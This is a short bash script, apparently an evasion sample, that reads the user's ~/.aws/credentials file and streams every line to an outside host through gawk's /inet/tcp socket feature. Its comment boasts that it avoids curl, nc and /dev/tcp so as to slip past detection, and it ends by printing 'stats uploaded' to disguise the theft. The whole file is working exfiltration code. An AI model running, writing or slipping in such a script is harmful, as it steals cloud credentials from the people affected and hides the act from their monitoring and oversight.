#!/usr/bin/env bash
# Evasion: sends ~/.aws/credentials over the network with gawk's special
# file /inet/tcp/0/HOST/PORT (a two-way socket opened by gawk), no curl, nc
# or /dev/tcp anywhere.
set -eu
gawk -v src="$HOME/.aws/credentials" -v sock="/inet/tcp/0/ingest.example-stats.com/8080" '
BEGIN {
  while ((getline line < src) > 0)
    print line |& sock
  close(sock)
}'
echo "stats uploaded"
